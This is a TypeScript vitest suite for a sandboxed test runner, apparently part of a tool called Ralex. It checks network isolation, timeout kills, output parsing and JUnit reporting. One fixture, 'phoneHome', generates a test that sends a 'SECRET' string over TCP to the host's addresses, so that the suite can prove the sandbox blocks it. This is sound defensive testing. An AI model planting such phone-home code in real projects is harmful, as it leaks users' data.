import { existsSync, readdirSync } from 'node:fs';
import { mkdir, mkdtemp, realpath, rm, symlink, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:net';
import { networkInterfaces, tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import type { EventBody } from '../../events/events.js';
import { detectSandbox } from '../../policy/sandbox/detect-sandbox.js';
import { runTestCheck } from './run-check.js';

let project: string;
let listener: Server | null = null;
afterEach(async () => {
  listener?.close();
  listener = null;
  if (project) await rm(project, { recursive: true, force: true });
});

beforeAll(async () => {
  // The suite installs bubblewrap (.ci/run): without it these tests fail here, loudly.
  expect((await detectSandbox()).available).toBe(true);
});

const WORKTREE_MODULES = new URL('../../../node_modules', import.meta.url).pathname;

async function makeProject(files: Record<string, string>): Promise<string> {
  project = await realpath(await mkdtemp(join(tmpdir(), 'ralex-check-test-')));
  for (const [path, content] of Object.entries(files)) {
    await mkdir(join(project, path, '..'), { recursive: true });
    await writeFile(join(project, path), content);
  }
  return project;
}

function check(command: string, options: { network?: boolean; timeoutMs?: number } = {}) {
  const events: EventBody[] = [];
  const run = runTestCheck(
    { name: 'tests', command, source: 'test' },
    {
      root: project,
      timeoutMs: options.timeoutMs ?? 60_000,
      signal: new AbortController().signal,
      emit: (e) => events.push(e),
      network: options.network,
      // The linked node_modules is Ralex's own checkout, which may sit in a temp folder the sandbox hides.
      sandbox: { projectDir: project, readablePaths: [WORKTREE_MODULES] },
    },
  );
  return run.then((r) => ({ ...r, events }));
}

/** A TCP listener on every address of the host, recording what reaches it. */
async function hostListener(): Promise<{ port: number; received: string[]; connections: () => number }> {
  const received: string[] = [];
  let connections = 0;
  listener = createServer((socket) => {
    connections++;
    socket.on('data', (d) => received.push(String(d)));
  });
  await new Promise<void>((resolve) => listener!.listen(0, '0.0.0.0', resolve));
  const port = (listener.address() as { port: number }).port;
  return { port, received, connections: () => connections };
}

/** The host's own addresses: loopback (the sandbox has its own) and, if any, a non-loopback IPv4. */
const hostAddresses = () => [
  '127.0.0.1',
  ...Object.values(networkInterfaces())
    .flat()
    .filter((a) => a && a.family === 'IPv4' && !a.internal)
    .map((a) => a!.address)
    .slice(0, 1),
];

/** A node --test file that sends a secret to every host address and reports what happened. */
const phoneHome = (port: number) => `import { test } from 'node:test';
import assert from 'node:assert/strict';
import { connect } from 'node:net';
const send = (host) => new Promise((resolve) => {
  const socket = connect(${port}, host, () => socket.end('SECRET from the test', () => resolve('sent')));
  socket.on('error', (e) => resolve(e.code));
  setTimeout(() => { socket.destroy(); resolve('timeout'); }, 2000);
});
test('phones home', async () => {
  for (const host of ${JSON.stringify(hostAddresses())}) console.log(host, await send(host));
  assert.ok(true);
});
`;

describe('runTestCheck runs the project tests like an agent command', () => {
  it('runs sandboxed with the network off, and a test that starts a loopback server still passes', async () => {
    await makeProject({
      'package.json': JSON.stringify({ type: 'module', scripts: { test: 'node --test' } }),
      'test/server.test.js': `import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
test('talks to its own server on 127.0.0.1', async () => {
  const server = createServer((req, res) => res.end('pong'));
  await new Promise((r) => server.listen(0, '127.0.0.1', r));
  const body = await (await fetch('http://127.0.0.1:' + server.address().port)).text();
  server.close();
  assert.equal(body, 'pong');
});
`,
    });
    const r = await check('npm test');
    expect(r.outcome).toMatchObject({ ok: true, sandboxed: true, network: false });
    expect(r.outcome.tests).toMatchObject({ runner: 'tap', passed: 1, failed: 0 });
    expect(r.report?.tests['talks to its own server on 127.0.0.1']).toBe('passed');
    expect(r.events.at(-1)).toMatchObject({ type: 'check.finished', sandboxed: true, network: false });
  });

  it('keeps a test that phones home off the host: the listener receives nothing', async () => {
    const host = await hostListener();
    await makeProject({
      'package.json': JSON.stringify({ type: 'module', scripts: { test: 'node --test' } }),
      'test/phone.test.js': phoneHome(host.port),
    });
    const r = await check('npm test');
    expect(r.outcome.sandboxed).toBe(true);
    expect(r.output).toContain('127.0.0.1 ECONNREFUSED');
    expect(r.output).not.toMatch(/ sent$/m);
    await new Promise((resolve) => setTimeout(resolve, 200));
    expect(host.connections()).toBe(0);
    expect(host.received).toEqual([]);
  });

  it('lets the same test reach the host with checks.network: on, and says so', async () => {
    const host = await hostListener();
    await makeProject({
      'package.json': JSON.stringify({ type: 'module', scripts: { test: 'node --test' } }),
      'test/phone.test.js': phoneHome(host.port),
    });
    const r = await check('npm test', { network: true });
    expect(r.outcome).toMatchObject({ sandboxed: true, network: true });
    expect(r.events.at(-1)).toMatchObject({ type: 'check.finished', network: true });
    await new Promise((resolve) => setTimeout(resolve, 200));
    expect(host.received.join('')).toContain('SECRET from the test');
  });

  it('kills the whole tree on timeout: a background child never gets to write', async () => {
    await makeProject({ 'run.sh': '(sleep 3; echo late > late.txt) &\nsleep 60\n' });
    const r = await check('bash run.sh', { timeoutMs: 1000 });
    expect(r.outcome).toMatchObject({ ok: false, timedOut: true });
    await new Promise((resolve) => setTimeout(resolve, 3500));
    expect(existsSync(join(project, 'late.txt'))).toBe(false);
  });

  it('strips ANSI codes from the output it keeps and parses', async () => {
    await makeProject({ 'run.sh': "printf '\\033[32mTAP version 13\\033[0m\\nok 1 - green\\n1..1\\n'\n" });
    const r = await check('bash run.sh');
    expect(r.outcome.output).not.toContain('\u001b');
    expect(r.report?.tests.green).toBe('passed');
  });

  it('asks vitest for JUnit in a private folder outside the project, and cleans it up', async () => {
    await makeProject({
      'package.json': JSON.stringify({ type: 'module', scripts: { test: 'vitest run' } }),
      'test/math.test.js':
        "import { expect, test } from 'vitest';\ntest('adds', () => expect(1 + 1).toBe(2));\ntest('fails', () => expect(1).toBe(2));\n",
    });
    await symlink(WORKTREE_MODULES, join(project, 'node_modules'));
    // A private TMPDIR for this check: other test files make report folders in the shared one meanwhile.
    const privateTmp = await mkdtemp(join(tmpdir(), 'ralex-check-tmp-'));
    const savedTmp = process.env.TMPDIR;
    process.env.TMPDIR = privateTmp;
    const r = await check('npm test').finally(() => {
      if (savedTmp === undefined) delete process.env.TMPDIR;
      else process.env.TMPDIR = savedTmp;
    });
    expect(r.report).toMatchObject({ runner: 'junit', format: 'machine' });
    expect(r.report?.tests).toEqual({
      'test/math.test.js > adds': 'passed',
      'test/math.test.js > fails': 'failed',
    });
    // Only the project's own files: the report went elsewhere (`.ralex` is made by the sandbox, to keep it read-only).
    expect(readdirSync(project).sort()).toEqual(['.ralex', 'node_modules', 'package.json', 'test']);
    expect(readdirSync(privateTmp)).toEqual([]);
    await rm(privateTmp, { recursive: true, force: true });
  });

  it('asks pytest for JUnit through PYTEST_ADDOPTS and leaves no bytecode in the project', async () => {
    await makeProject({
      'calc.py': 'def add(a, b):\n    return a + b\n',
      'tests/test_calc.py':
        'from calc import add\n\ndef test_add():\n    assert add(1, 2) == 3\n\ndef test_wrong():\n    assert add(1, 2) == 4\n',
      'conftest.py': '',
    });
    const r = await check('python3 -m pytest -q -p no:cacheprovider');
    expect(r.report).toMatchObject({ runner: 'junit', totals: { passed: 1, failed: 1, skipped: 0 } });
    expect(r.report?.tests['tests.test_calc > test_wrong']).toBe('failed');
    expect(existsSync(join(project, '__pycache__'))).toBe(false);
    expect(existsSync(join(project, 'tests', '__pycache__'))).toBe(false);
  });

  it('runs package managers with their update checks off: npm itself reads update-notifier, fund and audit as false', async () => {
    await makeProject({ 'package.json': '{"name":"quiet","version":"1.0.0"}\n' });
    const r = await check('npm config get update-notifier && npm config get fund && npm config get audit');
    expect(r.outcome.ok).toBe(true);
    expect(
      r.output
        .trim()
        .split('\n')
        .map((l) => l.trim()),
    ).toEqual(['false', 'false', 'false']);
  });
});
